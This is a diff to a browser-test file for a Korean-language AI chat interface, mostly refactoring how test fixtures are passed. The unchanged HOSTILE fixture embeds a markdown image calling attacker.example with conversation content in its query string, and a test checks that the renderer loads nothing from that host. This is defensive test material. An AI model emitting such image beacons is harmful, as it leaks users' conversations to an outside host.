@@ -147,6 +147,7 @@ def test_the_model_picker_offers_chat_models_only(
     expect(page.locator("#model")).to_have_value("echo")
 
 
+GIF = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
 HOSTILE = (
     "연차 휴가 규정. 입사 1년이 지난 직원에게는 연차 휴가 15일이 주어진다.\n\n"
     "![로고](http://attacker.example/leak.png?q=대화내용)\n\n"
@@ -173,8 +174,8 @@ def test_a_hostile_document_loads_nothing_from_elsewhere(
     page.evaluate(
         """(md) => { const b = window.haneulUI.bubble('assistant');
         window.haneulUI.renderMarkdown(b.querySelector('.body'),
-          md + '\\n\\n![점](data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7)'); }""",
-        HOSTILE,
+          md[0] + '\\n\\n![점](' + md[1] + ')'); }""",
+        [HOSTILE, GIF],
     )
     srcs = page.locator("img").evaluate_all("(i) => i.map((x) => x.getAttribute('src') || '')")
     assert not [s for s in srcs if "attacker" in s]
@@ -192,7 +193,8 @@ DONE = {
                 "content": "연차는 15일입니다 [1]. 육아휴직은 1년까지입니다 [2]."},
     "citations": [
         {"n": 1, "document": "휴가규정.pdf", "document_id": "d1", "collection": "내문서",
-         "page": 3, "snippet": "연차 휴가 15일", "text": "입사 1년이 지난 직원에게는 연차 휴가 15일이 주어진다.",
+         "page": 3, "snippet": "연차 휴가 15일",
+         "text": "입사 1년이 지난 직원에게는 연차 휴가 15일이 주어진다.",
          "supported": True},
         {"n": 2, "document": "복지.txt", "document_id": "d2", "collection": "내문서",
          "page": None, "snippet": "육아휴직", "text": "육아휴직은 최대 1년까지 쓸 수 있다.",
@@ -210,7 +212,7 @@ def test_sources_memories_and_the_finish_reason_show_under_the_answer(
 ) -> None:
     page = open_ui(server_factory()).page
     page.evaluate(
-        "(done) => { const a = window.haneulUI.bubble('assistant'); window.haneulUI.finish(a, done); }",
+        "(done) => window.haneulUI.finish(window.haneulUI.bubble('assistant'), done)",
         DONE,
     )
     chips = page.locator(".citations .citation")
@@ -319,7 +321,8 @@ def test_a_reload_keeps_the_conversation_and_opens_at_the_bottom(
     expect(page.locator(".msg.user")).to_have_count(3)
     at_bottom = page.eval_on_selector(
         "#log",
-        "(l) => l.scrollHeight > l.clientHeight && l.scrollHeight - l.clientHeight - l.scrollTop < 50",
+        "(l) => l.scrollHeight > l.clientHeight"
+        " && l.scrollHeight - l.clientHeight - l.scrollTop < 50",
     )
     assert at_bottom
     page.click("#new-conversation")
